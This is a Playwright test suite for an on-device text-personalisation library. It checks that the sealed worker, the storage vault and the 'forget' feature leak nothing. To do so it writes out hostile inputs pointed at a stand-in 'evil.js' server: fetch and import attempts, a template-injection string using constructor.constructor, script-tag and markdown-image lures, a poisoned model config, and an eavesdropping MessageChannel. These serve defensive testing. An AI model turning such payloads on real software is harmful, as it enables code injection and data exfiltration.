/**
 * Attacks on the seal, in real Chromium: script inside the sealed worker tries every way out, a hostile page script reads every
 * message, a hostile model folder is loaded, and the network is watched while a person uses the demo.
 */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import {
  type BrowserContext,
  chromium,
  expect,
  type Page,
  type Request,
  test,
  type Worker,
} from '@playwright/test';
import type { E2PError, Personalizer, Session, User } from '../src/index.ts';
import { type FaultServer, startFaultServer } from '../src/testing/fault-server.ts';
import { TINY_MODEL } from '../src/testing/tiny-encoder.ts';
import { GLOBAL_EXITS, METHOD_EXITS, NAVIGATOR_EXITS } from '../src/worker/exits.ts';
import { launchOptions } from './chromium.ts';
import type { Harness } from './harness/harness.ts';
import { HARMLESS, HARMLESS_IN_NAVIGATOR } from './known-globals.ts';
import { DEMO_URL, HARNESS_URL } from './ports.ts';
import { searchProfile } from './search-profile.ts';
import { openSection, SECTIONS } from './site.ts';

declare const harness: Harness;

/** Numbers that occur nowhere else. */
const EMBEDDING = Array.from({ length: 32 }, (_, i) => Math.fround(Math.sin(i * 12.9898 + 4.1414) * 1.37));
const PROMPT = 'Story: pocket drone, Quillon, Rook, calmer nerves';

let evil: FaultServer;
test.beforeAll(async () => {
  evil = await startFaultServer();
  evil.files.set('/evil.js', Buffer.from('self.stolen = 1'));
});
test.afterAll(() => evil.close());
test.beforeEach(() => evil.reset());

const engineOf = (page: Page): Worker =>
  page.workers().find((worker) => worker.url().startsWith('blob:') && !worker.url().includes('#'))!;

async function openDemo(page: Page, device = 'wasm'): Promise<Worker> {
  await page.goto(`${DEMO_URL}/?device=${device}&maxTokens=12`);
  await expect(page.getByTestId('privacy')).toBeVisible();
  // What they are made of is fetched when somebody comes to them.
  for (const section of SECTIONS) await openSection(page, section);
  return engineOf(page);
}

/** A personalizer with a user on the harness page, which is served without any policy. */
async function openHarness(page: Page, model = `${DEMO_URL}/models/e2p-tiny`): Promise<void> {
  await page.goto(HARNESS_URL);
  await page.waitForFunction(() => 'harness' in globalThis);
  await page.evaluate(
    async ([url, values]) => {
      const personalizer = await harness.Personalizer.create({
        model: url,
        projector: `${url}/projector.safetensors`,
        device: 'wasm',
        drift: false,
      });
      await personalizer.user.set({ space: personalizer.space!.id, values: Float32Array.from(values) });
      Object.assign(globalThis, { personalizer });
    },
    [model, EMBEDDING] as const,
  );
}

const writeText = (page: Page) =>
  page.evaluate(async (prompt) => {
    const session = await (
      globalThis as unknown as { personalizer: Personalizer }
    ).personalizer.createSession();
    return session.prompt(prompt, { maxTokens: 16 });
  }, PROMPT);

/** Tries each exit from inside the worker; what it got out, or the refusal. */
const tryExits = (worker: Worker) =>
  worker.evaluate(
    async ([url, globals, navigators, methods]) => {
      const scope = globalThis as unknown as Record<string, unknown>;
      const outcome: Record<string, string> = {};
      const attempt = async (name: string, work: () => unknown) => {
        try {
          await work();
          outcome[name] = 'OUT';
        } catch (error) {
          outcome[name] = String((error as { code?: string }).code ?? (error as Error).name);
        }
      };
      for (const name of globals) {
        if (!(name in scope)) continue;
        await attempt(name, () => (scope[name] as (address: string) => unknown)(url));
        await attempt(`new ${name}`, () => new (scope[name] as new (address: string) => unknown)(url));
      }
      for (const name of navigators) {
        if (name in navigator) await attempt(`navigator.${name}`, () => Reflect.get(navigator, name));
      }
      for (const [className, names] of Object.entries(methods)) {
        // A class that is shut itself may still be reached through an object; here by its own prototype.
        const descriptor = Object.getOwnPropertyDescriptor(WorkerGlobalScope.prototype, className);
        const prototype = (descriptor?.value ?? scope[className])?.prototype as object | undefined;
        for (const name of names) {
          if (prototype && name in prototype)
            await attempt(`${className}.${name}`, () =>
              (Reflect.get(prototype, name) as () => unknown).call({}),
            );
        }
      }
      await attempt('import()', () => import(/* @vite-ignore */ url));
      await attempt(
        'import() of the own origin',
        () => import(/* @vite-ignore */ `${location.origin}/sw.js?leak=1`),
      );
      await attempt('import() of data', () => import(/* @vite-ignore */ 'data:text/javascript,'.slice(0)));
      return outcome;
    },
    [
      `${evil.url}/evil.js`,
      GLOBAL_EXITS as readonly string[],
      NAVIGATOR_EXITS as readonly string[],
      METHOD_EXITS,
    ] as const,
  );

async function expectShut(page: Page, worker: Worker): Promise<void> {
  await expect(page.getByTestId('privacy')).toContainText('none is open');
  const requests = watchNetwork(page.context());
  const outcome = await tryExits(worker);
  expect(Object.keys(outcome).length).toBeGreaterThan(25);
  expect(Object.entries(outcome).filter(([, result]) => result === 'OUT')).toEqual([]);
  await page.waitForTimeout(500);
  expect(evil.log).toEqual([]);
  expect(requests()).toEqual([]);
}

async function expectKnownNames(worker: Worker): Promise<void> {
  const [names, ofNavigator] = await worker.evaluate(() => {
    const namesOf = (from: object) => {
      const found = new Set<string>();
      for (let at = from; at !== Object.prototype; at = Object.getPrototypeOf(at)) {
        for (const name of Object.getOwnPropertyNames(at)) found.add(name);
      }
      return [...found];
    };
    return [namesOf(globalThis), namesOf(navigator)] as const;
  });
  const exits: readonly string[] = GLOBAL_EXITS;
  expect(names.filter((name) => !exits.includes(name) && !HARMLESS.has(name))).toEqual([]);
  const more: readonly string[] = NAVIGATOR_EXITS;
  expect(ofNavigator.filter((name) => !more.includes(name) && !HARMLESS_IN_NAVIGATOR.has(name))).toEqual([]);
}

test('every way out of the engine that runs on wasm fails, and nothing arrives', async ({ page }) => {
  await expectShut(page, await openDemo(page, 'wasm'));
});

// One start for all of it: without a GPU it takes twenty seconds.
test('every way out of the engine that runs on webgpu fails, and every name is known; a lost GPU in the sealed worker: the text goes on, without a request', async ({
  page,
}) => {
  page.on('worker', (worker) => {
    void worker.evaluate(() => {
      const request = GPUAdapter.prototype.requestDevice;
      GPUAdapter.prototype.requestDevice = async function (...args) {
        const device = await request.apply(this, args);
        // Not among the names, which are looked at.
        Object.assign(GPUAdapter, { device });
        return device;
      };
    });
  });
  const worker = await openDemo(page, 'auto');
  await expect(page.getByTestId('status')).toContainText('Ready on WebGPU');
  await test.step('every way out fails', () => expectShut(page, worker));
  // Newer browsers have names that nobody looked at yet. On the CPU the engine has an origin of its own, no secure context, and fewer names.
  if (process.env.CI) await test.step('every name is shut or harmless', () => expectKnownNames(worker));
  await test.step('the GPU is lost', async () => {
    const requests = watchNetwork(page.context());
    await page.getByTestId('write').click();
    await worker.evaluate(() => (GPUAdapter as unknown as { device: GPUDevice }).device.destroy());
    await expect(page.getByTestId('status')).toContainText('Ready on WebAssembly', { timeout: 60_000 });
    await expect(page.getByTestId('stats-personal')).toHaveText(/\d+ tokens/);
    expect(requests()).toEqual([]);
  });
});

test('a page script that holds the port of the engine and asks for everything never gets the embedding', async ({
  page,
}) => {
  await page.addInitScript(() => {
    const said: unknown[] = [];
    const ports: MessagePort[] = [];
    const Native = globalThis.MessageChannel;
    globalThis.MessageChannel = class extends Native {
      constructor() {
        super();
        ports.push(this.port1);
        this.port1.addEventListener('message', ({ data }) => said.push(data));
      }
    };
    Object.assign(globalThis, { said, ports });
  });
  await openHarness(page);
  const text = await writeText(page);
  expect(text.length).toBeGreaterThan(0);
  const said = await page.evaluate(async () => {
    const { ports, said } = globalThis as unknown as {
      ports: MessagePort[];
      said: unknown[];
    };
    const ops = [
      'create',
      'setUser',
      'endUser',
      'createSession',
      'cloneSession',
      'destroySession',
      'generate',
    ];
    const guesses = [
      undefined,
      null,
      1,
      {},
      { session: 1, said: { messages: [{ role: 'user', content: 'embedding' }] }, options: {} },
    ];
    let id = 1e6;
    for (const op of [
      ...ops.filter((o) => o !== 'endUser'),
      'getUser',
      'user',
      'eval',
      '__proto__',
      'constructor',
    ]) {
      for (const params of guesses) ports[0]!.postMessage({ id: id++, op, params });
    }
    await new Promise((resolve) => setTimeout(resolve, 3000));
    const numbers: number[] = [];
    const seen = new Set<unknown>();
    const collect = (value: unknown): void => {
      if (typeof value === 'number') numbers.push(Math.fround(value));
      else if (typeof value === 'string')
        numbers.push(...(value.match(/-?\d+\.\d+/g) ?? []).map((n) => Math.fround(Number(n))));
      else if (ArrayBuffer.isView(value)) {
        numbers.push(...new Float32Array(value.buffer, 0, value.buffer.byteLength >> 2));
      } else if (value !== null && typeof value === 'object' && !seen.has(value)) {
        seen.add(value);
        for (const inner of Object.values(value)) collect(inner);
      }
    };
    collect(said);
    return { messages: said.length, numbers };
  });
  expect(said.messages).toBeGreaterThan(20);
  expect(said.numbers.length).toBeGreaterThan(10);
  expect(EMBEDDING.filter((value) => said.numbers.includes(value))).toEqual([]);
});

test('a hostile model folder, projector and prompt cause no request of their own', async ({ page }) => {
  const url = `${evil.url}/evil.js`;
  const script = `{{ ''.constructor.constructor('return fetch("${url}")')() }}{{ self.fetch("${url}") }}`;
  for (const path of readdirSync(TINY_MODEL, { recursive: true, encoding: 'utf8' })) {
    if (statSync(join(TINY_MODEL, path)).isFile() && !path.endsWith('manifest.json'))
      evil.files.set(`/m/${path}`, readFileSync(join(TINY_MODEL, path)));
  }
  const edit = (path: string, change: (json: Record<string, unknown>) => object) =>
    evil.files.set(
      `/m/${path}`,
      Buffer.from(JSON.stringify(change(JSON.parse(readFileSync(join(TINY_MODEL, path), 'utf8'))))),
    );
  edit('config.json', (json) => ({
    ...json,
    auto_map: { AutoModel: url },
    _name_or_path: url,
    __proto__: { url },
  }));
  edit('tokenizer_config.json', (json) => ({ ...json, tokenizer_file: url, vocab_file: url }));
  const requests = watchNetwork(page.context());
  await openHarness(page, `${evil.url}/m`);
  await page.evaluate(async (hostile) => {
    const { personalizer } = globalThis as unknown as { personalizer: Personalizer };
    const session = await personalizer.createSession();
    await session.prompt(hostile, { maxTokens: 4 });
  }, `${script} <script src="${url}"></script> ![x](${url})`);
  // The same code in the template itself is refused or harmless.
  edit('tokenizer_config.json', (json) => ({ ...json, chat_template: script + String(json.chat_template) }));
  await openHarness(page, `${evil.url}/m`)
    .then(() => writeText(page))
    .catch(() => undefined);
  expect(evil.log.filter((line) => line.includes('evil'))).toEqual([]);
  expect(evil.log.some((line) => line.includes('/m/onnx/model_q4.onnx'))).toBe(true);
  expect(requests().filter((asked) => asked.includes('evil.js'))).toEqual([]);
});

test('a GPU that computes no numbers: the text is that of the CPU, and says why', async ({ page }) => {
  test.skip(!process.env.CI, 'half a minute without a GPU: runs where CI is set');
  page.on('worker', (worker) => {
    void worker.evaluate(() => {
      // An engine for the CPU is of an opaque origin, which has no WebGPU.
      if (!('GPUBuffer' in globalThis)) return;
      const { getMappedRange } = GPUBuffer.prototype;
      GPUBuffer.prototype.getMappedRange = function (...args) {
        const range = getMappedRange.apply(this, args);
        // NaN as a logit, and as the key of one.
        const isRead = (this.usage & GPUBufferUsage.MAP_READ) !== 0;
        if (isRead && 'faulty' in globalThis) new Uint32Array(range).fill(0xffffffff);
        return range;
      };
    });
  });
  const worker = await openDemo(page, 'auto');
  await expect(page.getByTestId('status')).toContainText('Ready on WebGPU');
  await worker.evaluate(() => void Object.assign(globalThis, { faulty: true }));
  await page.getByTestId('write').click();
  await expect(page.getByTestId('status')).toContainText('Ready on WebAssembly', { timeout: 60_000 });
  await expect(page.getByTestId('stats-personal')).toHaveText(/\d+ tokens/);
  const text = await page.getByTestId('output-personal').textContent();
  await openDemo(page, 'wasm');
  await page.getByTestId('write').click();
  await expect(page.getByTestId('stats-personal')).toHaveText(/\d+ tokens/);
  expect(text).toBe(await page.getByTestId('output-personal').textContent());
});

const MINUTES = Number(process.env.E2P_PRIVACY_MINUTES ?? 0.1);
test(`${MINUTES} minutes of use after the seal: the network log is empty`, async ({ page, context }) => {
  test.setTimeout(MINUTES * 60_000 + 120_000);
  const before = watchNetwork(context);
  await openDemo(page);
  // The log sees what the worker fetches: the weights came through it.
  expect(before().some((url) => url.endsWith('model_q4.onnx'))).toBe(true);
  // The service worker takes its copies of the page's own files once.
  await page.waitForTimeout(2000);
  const requests = watchNetwork(context);
  const until = Date.now() + MINUTES * 60_000;
  for (let n = 0; Date.now() < until; n++) {
    await page.getByTestId(`reader-${n % 8}`).check();
    await page.getByTestId('write').click();
    await expect(page.getByTestId('stats-personal')).toHaveText(/\d+ tokens/);
    await expect(page.getByTestId('stop')).toBeDisabled();
  }
  expect(requests()).toEqual([]);
});

const EVENT = 'unmistakable-item-4711';
/** A whole personalised session with everything that a vault can hold; the text that was generated. */
const useVault = (page: Page) =>
  page.evaluate(
    async ([url, values, prompt, item]) => {
      const user = await harness.openUser({ policyVersion: '1' });
      await user.consent.grant('personalise');
      await user.consent.grant('learn-from-activity');
      const projector = `${url}/projector.safetensors`;
      const personalizer = await harness.Personalizer.create({
        ...{ model: url, projector, device: 'wasm', user, drift: false },
      });
      await personalizer.user.set({ space: personalizer.space!.id, values: Float32Array.from(values) });
      await user.events.add({ type: 'click', item, time: Date.now() });
      const session = await personalizer.createSession();
      const result = await session.generate(prompt, { maxTokens: 24 });
      await user.transcripts.save({ messages: [{ role: 'assistant', content: result.text }] });
      Object.assign(globalThis, { user, personalizer, session });
      return result;
    },
    [`${DEMO_URL}/models/e2p-tiny`, EMBEDDING, PROMPT, EVENT] as const,
  );

test('nothing personal is in the profile on disk in clear: not after use, not after forgetting', async ({
  browserName: _,
}, info) => {
  const profile = info.outputPath('profile');
  const visit = async <T>(work: (page: Page) => Promise<T>): Promise<T> => {
    const context = await chromium.launchPersistentContext(profile, launchOptions());
    const page = await context.newPage();
    await page.goto(HARNESS_URL);
    await page.waitForFunction(() => 'harness' in globalThis);
    const result = await work(page);
    // LevelDB writes when it likes.
    await page.waitForTimeout(1000);
    await context.close();
    return result;
  };
  const { text, softTokens } = await visit(useVault);
  expect(softTokens).toBe(1);
  const floats = Buffer.from(Float32Array.from(EMBEDDING).buffer);
  const snippet = text.trim().slice(0, 40);
  expect(snippet.length).toBeGreaterThan(20);
  const secrets: Record<string, Buffer> = {
    'the embedding, as bytes': floats.subarray(0, 16),
    'the embedding, in base64': Buffer.from(floats.toString('base64').slice(0, 40)),
    'the embedding, in hex': Buffer.from(floats.toString('hex').slice(0, 40)),
    'the embedding, as numbers': Buffer.from(String(EMBEDDING[3]).slice(0, 12)),
  };
  for (const [what, value] of Object.entries({
    'the prompt': PROMPT,
    'the text': snippet,
    'an event': EVENT,
  })) {
    secrets[what] = Buffer.from(value);
    secrets[`${what}, in UTF-16`] = Buffer.from(value, 'utf16le');
    secrets[`${what}, in base64`] = Buffer.from(Buffer.from(value).toString('base64').slice(0, 20));
  }
  expect(searchProfile(profile, secrets)).toEqual({ weights: true, vault: true, found: [] });

  const report = await visit((page) =>
    page.evaluate(async () => {
      const user = await harness.openUser({ policyVersion: '1' });
      return user.forget();
    }),
  );
  expect(report).toMatchObject({ isComplete: true, remaining: [] });
  expect(report.removed.some(({ what, where }) => what === 'embedding' && where === 'storage')).toBe(true);
  expect(searchProfile(profile, secrets)).toMatchObject({ weights: true, found: [] });
});

test('what is typed into the demo is not in the profile on disk: its fields ask the browser not to keep it', async ({
  browserName: _,
}, info) => {
  const profile = info.outputPath('profile');
  const typed = 'marzipan lighthouse on a rainy Thursday';
  const context = await chromium.launchPersistentContext(profile, launchOptions());
  const page = await context.newPage();
  await page.goto(`${DEMO_URL}/?device=wasm&maxTokens=4`);
  await openSection(page, 'you');
  await expect(page.getByTestId('privacy')).toBeVisible();
  await page.getByTestId('prompt').fill(typed);
  await page.getByTestId('write').click();
  await expect(page.getByTestId('stats-personal')).toHaveText(/\d+ tokens/);
  // A page that is left is written down with its fields, for the way back and for the next start.
  await page.goto(`${DEMO_URL}/?device=wasm&left`);
  await page.goBack();
  await page.goto(`${DEMO_URL}/real-llm.html?device=wasm&llm=./models/e2p-tiny`);
  await page.getByTestId('person-own').check();
  await page.getByTestId('own-lines').fill(typed);
  await page.goto(`${DEMO_URL}/?device=wasm&left`);
  await page.goBack();
  await page.waitForTimeout(3000);
  await context.close();
  const secrets = { typed: Buffer.from(typed), 'typed, in UTF-16': Buffer.from(typed, 'utf16le') };
  expect(searchProfile(profile, secrets)).toMatchObject({ weights: true, found: [] });
});

test('forgetting reaches the engine: sessions end, in this tab and in another', async ({ context }) => {
  const [a, b] = [await context.newPage(), await context.newPage()];
  for (const page of [a, b]) {
    await page.goto(HARNESS_URL);
    await page.waitForFunction(() => 'harness' in globalThis);
    await useVault(page);
  }
  // The second tab set the embedding anew, which ended the session of the first.
  await a.evaluate(async () => {
    const { personalizer } = globalThis as unknown as { personalizer: Personalizer };
    const session = await personalizer.createSession();
    await session.prompt('x', { maxTokens: 1 });
    Object.assign(globalThis, { session });
  });
  const report = await a.evaluate(() => (globalThis as unknown as { user: User }).user.forget());
  expect(report.removed.map(({ what }) => what)).toEqual(
    expect.arrayContaining(['embedding in the engine', 'session', 'KV cache']),
  );
  for (const page of [a, b]) {
    const ended = page.evaluate(async () => {
      const { session } = globalThis as unknown as { session: Session };
      for (let n = 0; n < 20; n++) {
        await session.prompt('x', { maxTokens: 1 });
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
    });
    await expect(ended).rejects.toThrow(/forgotten|cleared/);
  }
});

test('storage cleared while a session runs: it goes on, and the vault says what is gone', async ({
  page,
  context,
}) => {
  await page.goto(HARNESS_URL);
  await page.waitForFunction(() => 'harness' in globalThis);
  await useVault(page);
  const cdp = await context.newCDPSession(page);
  await cdp.send('Storage.clearDataForOrigin', { origin: HARNESS_URL, storageTypes: 'all' });
  const outcome = await page.evaluate(async () => {
    const { session, user, personalizer } = globalThis as unknown as Running;
    const text = await session.prompt('And then?', { maxTokens: 4 });
    const read = await user.embedding.get(personalizer.space!.id).then(
      (found) => (found === undefined ? 'nothing' : 'the embedding'),
      (error: E2PError) => error.code,
    );
    // Beginning anew is possible at once.
    const next = await harness.openUser({ policyVersion: '1' });
    return { text, read, consent: (await next.consent.state()).personalise.state };
  });
  expect(outcome.text.length).toBeGreaterThan(0);
  expect(outcome.read).not.toBe('the embedding');
  expect(outcome.read).toMatch(/^(nothing|consent-required|vault-corrupt|destroyed|storage-failed)$/);
  expect(outcome.consent).toBe('unset');
});

test('disk full at a vault write: a typed error, and the old value is still there', async ({ page }) => {
  await page.goto(HARNESS_URL);
  await page.waitForFunction(() => 'harness' in globalThis);
  await useVault(page);
  const outcome = await page.evaluate(async () => {
    const { user, personalizer } = globalThis as unknown as Running;
    const space = personalizer.space!.id;
    // Chromium lets small writes through whatever quota it was told, so the refusal is the test's.
    const { put } = IDBObjectStore.prototype;
    IDBObjectStore.prototype.put = () => {
      throw new DOMException('full', 'QuotaExceededError');
    };
    const write = () =>
      user.embedding.set({ space, values: new Float32Array(personalizer.space!.dim).fill(9) });
    const code = await write().then(
      () => 'written',
      (error: E2PError) => error.code,
    );
    IDBObjectStore.prototype.put = put;
    return code;
  });
  const kept = await page.evaluate(async () => {
    const user = await harness.openUser({ policyVersion: '1' });
    const { personalizer } = globalThis as unknown as Running;
    const values = [...(await user.embedding.get(personalizer.space!.id))!.values];
    return { values, audit: (await user.audit.verify()).valid };
  });
  expect(outcome).toBe('quota-exceeded');
  expect(kept).toEqual({ values: EMBEDDING, audit: true });
});

interface Running {
  readonly personalizer: Personalizer;
  readonly session: Session;
  readonly user: User;
}

/** Addresses that were asked for from now on, by the page, its workers and service workers; without what a policy stopped. */
function watchNetwork(context: BrowserContext): () => string[] {
  const asked: Request[] = [];
  context.on('request', (request) => asked.push(request));
  return () => asked.filter((r) => !/csp/i.test(r.failure()?.errorText ?? '')).map((r) => r.url());
}
